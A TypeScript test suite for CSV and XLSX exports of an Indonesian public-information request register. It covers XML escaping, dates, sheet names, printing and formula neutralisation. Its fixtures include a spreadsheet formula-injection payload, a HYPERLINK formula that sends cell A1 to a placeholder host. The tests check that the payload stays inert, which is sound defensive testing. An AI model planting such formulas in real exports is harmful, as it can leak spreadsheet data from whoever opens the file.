/**
 * Table exports (functions/core/tabular): CSV and XLSX from one column description. The XLSX is
 * read back from its ZIP and its XML parts checked by hand; where python3 with openpyxl or
 * LibreOffice is installed, a real reader opens it too (those tests are skipped, saying so, elsewhere).
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { checkEnd, sniff, TAIL_BYTES } from '../../functions/core/documents.ts';
import { csvCell } from '../../functions/core/register/exports.ts';
import { type Column, neutraliseFormula, toCsv } from '../../functions/core/tabular/table.ts';
import { columnName, excelSerial, type Sheet, toXlsx, xmlText } from '../../functions/core/tabular/xlsx.ts';
import { parseCsv } from '../support/csv.ts';
import { unzip } from '../support/zip.ts';

interface Request {
  number: string;
  applicant: string;
  subject: string;
  receivedOn: string;
  decidedAt?: Date;
  days?: number;
}

const COLUMNS: Column<Request>[] = [
  { key: 'number', header: { id: 'Nomor registrasi', en: 'Registration number' }, value: (r) => r.number, kind: 'text' },
  { key: 'applicant', header: { id: 'Nama pemohon', en: 'Applicant' }, value: (r) => r.applicant, width: 30 },
  { key: 'subject', header: { id: 'Rincian informasi yang dibutuhkan', en: 'Information requested' }, value: (r) => r.subject },
  { key: 'receivedOn', header: { id: 'Tanggal permohonan', en: 'Date of request' }, value: (r) => r.receivedOn, kind: 'date' },
  { key: 'decidedAt', header: { id: 'Waktu keputusan', en: 'Decided at' }, value: (r) => r.decidedAt },
  { key: 'days', header: { id: 'Lama (hari kerja)', en: 'Working days' }, value: (r) => r.days },
];

const INJECTION = '=HYPERLINK("http://contoh.invalid/?x="&A1,"Klik")';
const ROWS: Request[] = [
  {
    number: '001/PPID/XII/2026',
    applicant: 'Siti Nurhaliza',
    subject: 'Salinan DIPA Dinas Pendidikan 2026, "lengkap" & <rinci>\r\nbaris kedua',
    receivedOn: '2026-12-01',
    decidedAt: new Date('2026-12-03T09:30:00Z'),
    days: 2,
  },
  { number: '002/PPID/XII/2026', applicant: INJECTION, subject: '＝1+1 (tanda sama dengan lebar penuh)', receivedOn: '2026-12-02', days: -5 },
  {
    number: '003/PPID/XII/2026',
    applicant: 'Ñoño 📄👍🏽 Ketut',
    subject: 'kontrol\u0001\u0008\u001f dibuang, tab\ttetap; _x0041_ bukan A',
    receivedOn: '2026-12-31',
    days: 10.5,
  },
];

const SHEET: Sheet<Request> = {
  name: 'Register: 2026/12 [draf]',
  columns: COLUMNS,
  rows: ROWS,
  lang: 'id',
  title: 'Buku Register Permohonan Informasi Publik 2026',
};

// --- reading the XLSX back ------------------------------------------------------------------------------

const text = (files: Map<string, Buffer>, name: string) => {
  const data = files.get(name);
  if (!data) throw new Error(`no part ${name}`);
  return data.toString('utf8');
};

const unescapeXml = (s: string) => s.replace(/&(amp|lt|gt|quot|apos);/g, (_, e: string) => ({ amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" })[e]!);

/**
 * Well-formed enough: the XML declaration, one root element, tags nested and closed, attributes
 * quoted and unique, `&` only in entities, no `<` or `>` in text, and only characters XML 1.0 allows.
 */
function expectWellFormed(xml: string, part: string): void {
  expect(xml.startsWith('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'), part).toBe(true);
  expect(/[^\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/u.test(xml), `${part}: a character XML 1.0 cannot carry`).toBe(false);
  const body = xml.slice(xml.indexOf('?>') + 2);
  const stack: string[] = [];
  let roots = 0;
  for (const m of body.matchAll(/<(\/?)([A-Za-z_][\w:.-]*)((?:\s+[\w:.-]+="[^"<]*")*)\s*(\/?)>|([^<]+)|(<)/g)) {
    const [, close, name, attrs, selfClosing, chars, stray] = m;
    if (stray) throw new Error(`${part}: stray "<" at ${m.index}: ${body.slice(m.index, m.index + 40)}`);
    if (chars !== undefined) {
      if (!stack.length && chars.trim()) throw new Error(`${part}: text outside the root`);
      if (chars.includes('>') || /&(?!(amp|lt|gt|quot|apos|#\d+|#x[0-9a-fA-F]+);)/.test(chars)) throw new Error(`${part}: unescaped text ${chars}`);
      continue;
    }
    const names = [...(attrs ?? '').matchAll(/([\w:.-]+)="([^"]*)"/g)].map((a) => {
      if (/&(?!(amp|lt|gt|quot|apos|#\d+|#x[0-9a-fA-F]+);)/.test(a[2]!)) throw new Error(`${part}: unescaped attribute ${a[0]}`);
      return a[1];
    });
    expect(new Set(names).size, `${part}: repeated attribute in <${name}>`).toBe(names.length);
    if (close) {
      if (stack.pop() !== name) throw new Error(`${part}: </${name}> closes nothing open`);
    } else {
      if (!stack.length) roots++;
      if (!selfClosing) stack.push(name!);
    }
  }
  expect(stack, `${part}: unclosed elements`).toEqual([]);
  expect(roots, `${part}: root elements`).toBe(1);
}

interface XCell {
  style: number;
  type: string | undefined;
  value: string;
}

/** The cells of a worksheet by reference: style, type and value (the <v> or the inline string). */
function cells(sheetXml: string): Map<string, XCell> {
  const out = new Map<string, XCell>();
  for (const m of sheetXml.matchAll(/<c r="([A-Z]+\d+)"(?: s="(\d+)")?(?: t="(\w+)")?>(.*?)<\/c>/gs)) {
    const [, ref, style, type, inner] = m;
    const value = type === 'inlineStr' ? /^<is><t xml:space="preserve">(.*)<\/t><\/is>$/s.exec(inner!)![1]! : /^<v>(.*)<\/v>$/.exec(inner!)![1]!;
    out.set(ref!, { style: Number(style ?? 0), type, value: unescapeXml(value) });
  }
  return out;
}

const workbook = toXlsx([SHEET, { name: 'Register: 2026/12 [draf]', columns: COLUMNS, rows: [], lang: 'en' }]);
const files = unzip(workbook);

describe('XLSX container', () => {
  it('is a ZIP with the minimal OOXML parts, each with a valid CRC-32, in the order Office writes them', () => {
    expect([...files.keys()]).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'xl/workbook.xml',
      'xl/_rels/workbook.xml.rels',
      'xl/styles.xml',
      'xl/worksheets/sheet1.xml',
      'xl/worksheets/sheet2.xml',
    ]);
  });

  it('has well-formed XML in every part', () => {
    for (const name of files.keys()) expectWellFormed(text(files, name), name);
  });

  it('declares every part and relationship', () => {
    const types = text(files, '[Content_Types].xml');
    for (const part of ['/xl/workbook.xml', '/xl/styles.xml', '/xl/worksheets/sheet1.xml', '/xl/worksheets/sheet2.xml'])
      expect(types).toContain(`PartName="${part}"`);
    expect(text(files, '_rels/.rels')).toContain('Target="xl/workbook.xml"');
    const rels = text(files, 'xl/_rels/workbook.xml.rels');
    expect(rels).toContain('Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"');
    expect(rels).toContain('Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"');
  });

  it('passes the upload checks of documents.ts as an xlsx, and is the same bytes each time', () => {
    expect(sniff(workbook.subarray(0, 64 * 1024), 'xlsx')).toEqual({ ok: true });
    expect(checkEnd('xlsx', workbook.subarray(0, 64 * 1024), workbook.subarray(Math.max(0, workbook.length - TAIL_BYTES)), workbook.length)).toEqual({
      ok: true,
    });
    expect(Buffer.from(toXlsx([SHEET, { name: 'Register: 2026/12 [draf]', columns: COLUMNS, rows: [], lang: 'en' }])).equals(Buffer.from(workbook))).toBe(true);
  });

  it('refuses a workbook without sheets', () => {
    expect(() => toXlsx([])).toThrow(RangeError);
  });
});

describe('XLSX sheets', () => {
  const sheet1 = text(files, 'xl/worksheets/sheet1.xml');
  const c = cells(sheet1);

  it('sanitises sheet names (no []:*?/\\, at most 31 characters, unique) and repeats the header rows when printed', () => {
    const wb = text(files, 'xl/workbook.xml');
    expect([...wb.matchAll(/<sheet name="([^"]*)"/g)].map((m) => m[1])).toEqual(['Register 2026 12 draf', 'Register 2026 12 draf (2)']);
    expect(wb).toContain(`<definedName name="_xlnm.Print_Titles" localSheetId="0">'Register 2026 12 draf'!$1:$2</definedName>`);
    expect(wb).toContain(`<definedName name="_xlnm._FilterDatabase" localSheetId="0" hidden="1">'Register 2026 12 draf'!$A$2:$F$5</definedName>`);
    expect(wb).toContain(`<definedName name="_xlnm.Print_Titles" localSheetId="1">'Register 2026 12 draf (2)'!$1:$1</definedName>`);

    const names = (...given: string[]) =>
      [
        ...text(unzip(toXlsx(given.map((name) => ({ name, columns: COLUMNS, rows: [], lang: 'id' as const })))), 'xl/workbook.xml').matchAll(
          /<sheet name="([^"]*)"/g,
        ),
      ].map((m) => unescapeXml(m[1]!));
    expect(names('', '   ', "'kutip'", 'History', 'a'.repeat(40), 'A'.repeat(40), 'Permohonan 📄📄📄📄📄📄📄📄📄📄', 'R&D <1>')).toEqual([
      'Sheet1',
      'Sheet2',
      'kutip',
      'History (2)',
      'a'.repeat(31),
      `${'A'.repeat(27)} (2)`,
      'Permohonan 📄📄📄📄📄📄📄📄📄📄',
      'R&D <1>',
    ]);
    expect(names('Permohonan informasi 📄📄📄📄📄')[0]).toBe('Permohonan informasi 📄📄📄📄📄');
    // 31 UTF-16 units would split the sixth emoji: it is left out whole.
    expect(names('Permohonan informasi x📄📄📄📄📄')[0]).toBe('Permohonan informasi x📄📄📄📄');
  });

  it('writes the title, a bold header row, frozen below the header, with an autofilter and column widths', () => {
    expect(c.get('A1')).toEqual({ style: 7, type: 'inlineStr', value: 'Buku Register Permohonan Informasi Publik 2026' });
    expect(COLUMNS.map((_, i) => c.get(`${columnName(i)}2`))).toEqual(COLUMNS.map((col) => ({ style: 1, type: 'inlineStr', value: col.header.id })));
    const styles = text(files, 'xl/styles.xml');
    const xfs = [...styles.slice(styles.indexOf('<cellXfs')).matchAll(/<xf [^>]*>/g)].map((m) => m[0]);
    const fonts = [...styles.matchAll(/<font>(.*?)<\/font>/g)].map((m) => m[1]);
    expect(fonts[Number(/fontId="(\d+)"/.exec(xfs[1]!)![1])]).toContain('<b/>');
    expect(sheet1).toContain('<pane ySplit="2" topLeftCell="A3" activePane="bottomLeft" state="frozen"/>');
    expect(sheet1).toContain('<autoFilter ref="A2:F5"/>');
    expect(sheet1).toContain('<dimension ref="A1:F5"/>');
    // Given width 30; the others follow the content (its longest line, plus 3) within 8..60.
    const widths = [...sheet1.matchAll(/<col min="(\d+)" max="\d+" width="(\d+)" customWidth="1"\/>/g)].map((m) => Number(m[2]));
    expect(widths).toHaveLength(6);
    expect(widths[1]).toBe(30);
    expect(widths[0]).toBe('001/PPID/XII/2026'.length + 3);
    expect(widths[2]).toBe('Salinan DIPA Dinas Pendidikan 2026, "lengkap" & <rinci>'.length + 3);
    for (const w of widths) expect(w).toBeGreaterThanOrEqual(8);
  });

  it('gives rows with wrapped text an estimated height (LibreOffice keeps the default height otherwise)', () => {
    // Row 3: a line break; row 4: 47 characters in a column 30 wide.
    expect([...sheet1.matchAll(/<row [^>]*>/g)].map((m) => m[0])).toEqual([
      '<row r="1">',
      '<row r="2">',
      '<row r="3" ht="30">',
      '<row r="4" ht="30">',
      '<row r="5">',
    ]);
    const rowTag = (width: number, v: string) =>
      /<row r="2"[^>]*>/.exec(
        text(
          unzip(toXlsx([{ name: 's', columns: [{ key: 'v', header: { id: 'v', en: 'v' }, value: () => v, width }], rows: [0], lang: 'id' }])),
          'xl/worksheets/sheet1.xml',
        ),
      )![0];
    expect(rowTag(12, 'x'.repeat(10))).toBe('<row r="2">');
    expect(rowTag(12, 'x'.repeat(11))).toBe('<row r="2" ht="30">');
    expect(rowTag(12, `${'x'.repeat(25)}\n\nx`)).toBe('<row r="2" ht="75">');
    expect(rowTag(10, 'x'.repeat(10_000))).toBe('<row r="2" ht="409">');
  });

  it('sets up printing: A4 landscape, fitted to one page wide, page numbers in the footer', () => {
    expect(sheet1).toContain('<sheetPr><pageSetUpPr fitToPage="1"/></sheetPr>');
    expect(sheet1).toContain('<pageSetup paperSize="9" orientation="landscape" fitToWidth="1" fitToHeight="0"/>');
    expect(sheet1).toContain('<oddFooter>&amp;CHalaman &amp;P dari &amp;N</oddFooter>');
    expect(text(files, 'xl/worksheets/sheet2.xml')).toContain('<oddFooter>&amp;CPage &amp;P of &amp;N</oddFooter>');
  });

  it('writes text as inline strings, numbers as numbers, dates as Excel serials with a date format', () => {
    expect(c.get('A3')).toEqual({ style: 2, type: 'inlineStr', value: '001/PPID/XII/2026' });
    expect(c.get('D3')).toEqual({ style: 5, type: undefined, value: '46357' });
    expect(c.get('E3')).toMatchObject({ style: 6, type: undefined });
    expect(Number(c.get('E3')?.value)).toBeCloseTo(46359 + 9.5 / 24, 9);
    expect(c.get('F3')).toEqual({ style: 4, type: undefined, value: '2' });
    expect(c.get('F4')).toEqual({ style: 4, type: undefined, value: '-5' });
    expect(c.get('F5')).toEqual({ style: 4, type: undefined, value: '10.5' });
    expect(c.get('E4')).toBeUndefined();
    expect(c.get('D5')?.value).toBe('46387');
    const styles = text(files, 'xl/styles.xml');
    const xfs = [...styles.slice(styles.indexOf('<cellXfs')).matchAll(/<xf [^>]*>/g)].map((m) => m[0]);
    expect(xfs[5]).toContain('numFmtId="164"');
    expect(xfs[6]).toContain('numFmtId="165"');
    expect(styles).toContain('<numFmt numFmtId="164" formatCode="yyyy-mm-dd"/>');
    expect(styles).toContain('<numFmt numFmtId="165" formatCode="yyyy-mm-dd hh:mm"/>');
  });

  it('computes Excel serial dates (1900 date system)', () => {
    expect(excelSerial(new Date('2026-12-01'))).toBe(46357);
    expect(excelSerial(new Date('1970-01-01'))).toBe(25569);
    expect(excelSerial(new Date('1900-03-01'))).toBe(61);
    expect(excelSerial(new Date('2026-12-01T18:00:00Z'))).toBe(46357.75);
    // Before 1900-03-01 Excel's serials count a 29 February 1900 that never was: such dates stay text.
    const old = cells(
      text(unzip(toXlsx([{ name: 'x', columns: COLUMNS, rows: [{ ...ROWS[0]!, receivedOn: '1900-02-28' }], lang: 'id' }])), 'xl/worksheets/sheet1.xml'),
    );
    expect(old.get('D2')).toEqual({ style: 2, type: 'inlineStr', value: '1900-02-28' });
  });

  it('escapes XML, removes control characters, keeps tabs and line breaks, and escapes Excel _xHHHH_ sequences', () => {
    expect(c.get('C3')?.value).toBe('Salinan DIPA Dinas Pendidikan 2026, "lengkap" & <rinci>\nbaris kedua');
    expect(sheet1).toContain('&quot;lengkap&quot; &amp; &lt;rinci&gt;\nbaris kedua');
    expect(c.get('C5')?.value).toBe('kontrol dibuang, tab\ttetap; _x005F_x0041_ bukan A');
    expect(xmlText('a\u0000b\uFFFEc\uD800d\r\ne')).toBe('abcd\ne');
  });

  it('keeps formula-like text as text: inline strings are never formulas, and quotePrefix keeps them so when edited', () => {
    expect(c.get('B4')).toEqual({ style: 3, type: 'inlineStr', value: INJECTION });
    expect(c.get('C4')).toEqual({ style: 3, type: 'inlineStr', value: '＝1+1 (tanda sama dengan lebar penuh)' });
    expect(sheet1).not.toMatch(/<f[ >]/);
    expect(text(files, 'xl/styles.xml')).toMatch(/<xf [^>]*quotePrefix="1"/);
    expect(
      [
        ...text(files, 'xl/styles.xml')
          .slice(text(files, 'xl/styles.xml').indexOf('<cellXfs'))
          .matchAll(/<xf [^>]*>/g),
      ][3]![0],
    ).toContain('quotePrefix="1"');
  });

  it('keeps Indonesian text and emoji intact (UTF-8)', () => {
    expect(c.get('B5')?.value).toBe('Ñoño 📄👍🏽 Ketut');
    expect(c.get('B3')?.value).toBe('Siti Nurhaliza');
  });

  it('follows the column kinds: text keeps digits, number and date read strings, empty and non-finite values are empty', () => {
    interface R {
      v: string | number | Date | undefined;
    }
    const col = (kind?: Column<R>['kind']): Column<R> => ({ key: 'v', header: { id: 'v', en: 'v' }, value: (r) => r.v, ...(kind ? { kind } : {}) });
    const one = (kind: Column<R>['kind'], v: R['v']) =>
      cells(text(unzip(toXlsx([{ name: 's', columns: [col(kind)], rows: [{ v }], lang: 'id' }])), 'xl/worksheets/sheet1.xml')).get('A2');
    expect(one('text', 3201234567890001)).toEqual({ style: 2, type: 'inlineStr', value: '3201234567890001' });
    expect(one('text', new Date('2026-12-01'))).toEqual({ style: 2, type: 'inlineStr', value: '2026-12-01' });
    expect(one('number', ' 12 ')).toEqual({ style: 4, type: undefined, value: '12' });
    expect(one('number', '12 hari')).toEqual({ style: 2, type: 'inlineStr', value: '12 hari' });
    expect(one('date', new Date('2026-12-01T23:59:00Z'))).toEqual({ style: 5, type: undefined, value: '46357' });
    expect(one('date', '2026-13-01')).toEqual({ style: 2, type: 'inlineStr', value: '2026-13-01' });
    expect(one('date', '2026-02-30')).toEqual({ style: 2, type: 'inlineStr', value: '2026-02-30' });
    expect(one('date', '2028-02-29')).toEqual({ style: 5, type: undefined, value: String(excelSerial(new Date('2028-02-29'))) });
    expect(one(undefined, '2026-12-01')).toEqual({ style: 2, type: 'inlineStr', value: '2026-12-01' });
    expect(one(undefined, Number.NaN)).toBeUndefined();
    expect(one(undefined, new Date('nope'))).toBeUndefined();
    expect(one(undefined, '')).toBeUndefined();
    expect(one(undefined, 'x'.repeat(40_000))?.value).toHaveLength(32_767);
    const long = text(unzip(toXlsx([{ name: 's', columns: [col()], rows: [{ v: 'x'.repeat(100) }], lang: 'id' }])), 'xl/worksheets/sheet1.xml');
    expect(long).toContain('<col min="1" max="1" width="60" customWidth="1"/>');
  });

  it('names columns past Z', () => {
    expect([0, 25, 26, 51, 52, 701, 702, 16_383].map(columnName)).toEqual(['A', 'Z', 'AA', 'AZ', 'BA', 'ZZ', 'AAA', 'XFD']);
  });
});

// --- CSV ------------------------------------------------------------------------------------------------

describe('CSV', () => {
  const csv = toCsv(COLUMNS, ROWS, 'en');

  it('is UTF-8 with a BOM, CRLF records and RFC 4180 quoting, in the chosen language', () => {
    expect(csv.startsWith('\uFEFFRegistration number,Applicant,Information requested,Date of request,Decided at,Working days\r\n')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(toCsv(COLUMNS, [], 'id')).toBe(
      '\uFEFFNomor registrasi,Nama pemohon,Rincian informasi yang dibutuhkan,Tanggal permohonan,Waktu keputusan,Lama (hari kerja)\r\n',
    );
    const rows = parseCsv(csv.slice(1));
    expect(rows).toHaveLength(4);
    expect(rows[1]).toEqual([
      '001/PPID/XII/2026',
      'Siti Nurhaliza',
      'Salinan DIPA Dinas Pendidikan 2026, "lengkap" & <rinci>\r\nbaris kedua',
      '2026-12-01',
      '2026-12-03 09:30',
      '2',
    ]);
    expect(sniff(new TextEncoder().encode(csv), 'csv')).toEqual({ ok: true });
  });

  it('neutralises formula-like text (also full-width and after spaces) but not numbers', () => {
    const rows = parseCsv(csv.slice(1));
    expect(rows[2]).toEqual(['002/PPID/XII/2026', `'${INJECTION}`, "'＝1+1 (tanda sama dengan lebar penuh)", '2026-12-02', '', '-5']);
    for (const s of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '  =1', '\u3000=1', '＋1', '－1', '＠x']) expect(neutraliseFormula(s)).toBe(`'${s}`);
    for (const s of ['Laporan 2025', 'a=b', '1-2', '']) expect(neutraliseFormula(s)).toBe(s);
  });

  it('keeps Unicode, tabs and line breaks, and drops other control characters', () => {
    const rows = parseCsv(csv.slice(1));
    expect(rows[3]).toEqual(['003/PPID/XII/2026', 'Ñoño 📄👍🏽 Ketut', 'kontrol dibuang, tab\ttetap; _x0041_ bukan A', '2026-12-31', '', '10.5']);
    expect(csvCell('a\u0000b\u007fc\u0085d\te')).toBe('abcd\te');
  });

  it('is the field writer of the register exports too', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('a,"b"')).toBe('"a,""b"""');
    expect(csvCell(-5)).toBe("'-5");
  });
});

// --- real readers, where installed ------------------------------------------------------------------------

const has = (cmd: string, args: string[]) => spawnSync(cmd, args, { stdio: 'ignore', timeout: 60_000 }).status === 0;
const openpyxl = has('python3', ['-c', 'import openpyxl']);
const soffice = ['soffice', 'libreoffice'].find((cmd) => has('which', [cmd]));
const dir = mkdtempSync(join(tmpdir(), 'xlsx-test-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('real readers', () => {
  it.skipIf(!openpyxl)(`openpyxl reads the workbook${openpyxl ? '' : ' (SKIPPED: python3 with openpyxl is not installed)'}`, () => {
    const file = join(dir, 'openpyxl.xlsx');
    writeFileSync(file, workbook);
    const script = `
import json, sys, openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
out = []
for ws in wb.worksheets:
    out.append({
        "title": ws.title, "freeze": ws.freeze_panes, "filter": ws.auto_filter.ref,
        "orientation": ws.page_setup.orientation, "paper": ws.page_setup.paperSize,
        "fitToWidth": ws.page_setup.fitToWidth, "fitToPage": ws.sheet_properties.pageSetUpPr.fitToPage,
        "printTitles": ws.print_title_rows, "widthB": ws.column_dimensions["B"].width,
        "bold": [c.font.b for c in ws[2]] if ws.max_row >= 2 else [],
        "rows": [[None if c.value is None else [c.value if not hasattr(c.value, "isoformat") else c.value.isoformat(), c.data_type, c.number_format] for c in row] for row in ws.iter_rows()],
    })
print(json.dumps(out))`;
    const [s1, s2] = JSON.parse(execFileSync('python3', ['-c', script, file], { encoding: 'utf8' }));
    expect(s1).toMatchObject({
      title: 'Register 2026 12 draf',
      freeze: 'A3',
      filter: 'A2:F5',
      orientation: 'landscape',
      paper: 9,
      fitToWidth: 1,
      fitToPage: true,
    });
    expect(s1.printTitles).toBe('$1:$2');
    expect(s1.widthB).toBe(30);
    expect(s1.bold).toEqual([true, true, true, true, true, true]);
    expect(s1.rows[0][0]).toEqual(['Buku Register Permohonan Informasi Publik 2026', 's', 'General']);
    expect(s1.rows[2]).toEqual([
      ['001/PPID/XII/2026', 's', 'General'],
      ['Siti Nurhaliza', 's', 'General'],
      ['Salinan DIPA Dinas Pendidikan 2026, "lengkap" & <rinci>\nbaris kedua', 's', 'General'],
      ['2026-12-01T00:00:00', 'd', 'yyyy-mm-dd'],
      ['2026-12-03T09:30:00', 'd', 'yyyy-mm-dd hh:mm'],
      [2, 'n', 'General'],
    ]);
    expect(s1.rows[3].slice(0, 3)).toEqual([
      ['002/PPID/XII/2026', 's', 'General'],
      [INJECTION, 's', 'General'],
      ['＝1+1 (tanda sama dengan lebar penuh)', 's', 'General'],
    ]);
    expect(s1.rows[3][5]).toEqual([-5, 'n', 'General']);
    expect(s1.rows[4][1]).toEqual(['Ñoño 📄👍🏽 Ketut', 's', 'General']);
    expect(s1.rows[4][5]).toEqual([10.5, 'n', 'General']);
    expect(s2).toMatchObject({ title: 'Register 2026 12 draf (2)', freeze: 'A2', filter: 'A1:F1' });
  });

  it.skipIf(!soffice)(
    `LibreOffice converts it to the same CSV as toCsv${soffice ? '' : ' (SKIPPED: LibreOffice (soffice) is not installed)'}`,
    { timeout: 120_000 },
    () => {
      // Without the formula-like rows, whose CSV gets an apostrophe that the XLSX needs not.
      const rows = [ROWS[0]!, { ...ROWS[2]!, subject: 'tab\ttetap, "kutip"' }];
      const file = join(dir, 'register.xlsx');
      writeFileSync(file, toXlsx([{ name: 'Register', columns: COLUMNS, rows, lang: 'id' }]));
      // Comma separated, double quotes, UTF-8 (76), first line as is; a profile of its own so that a running instance is not disturbed.
      execFileSync(
        soffice!,
        [
          `-env:UserInstallation=file://${join(dir, 'profile')}`,
          '--headless',
          '--convert-to',
          'csv:Text - txt - csv (StarCalc):44,34,76,1',
          '--outdir',
          dir,
          file,
        ],
        {
          stdio: 'ignore',
          timeout: 110_000,
        },
      );
      const converted = readFileSync(join(dir, 'register.csv'), 'utf8').replace(/^\uFEFF/, '');
      const expected = parseCsv(toCsv(COLUMNS, rows, 'id').slice(1)).map((r) => r.map((f) => f.replace(/\r\n/g, '\n')));
      expect(parseCsv(converted.replace(/\r?\n/g, '\r\n').replace(/"[^"]*"/g, (q) => q.replace(/\r\n/g, '\n')))).toEqual(expected);
    },
  );
});
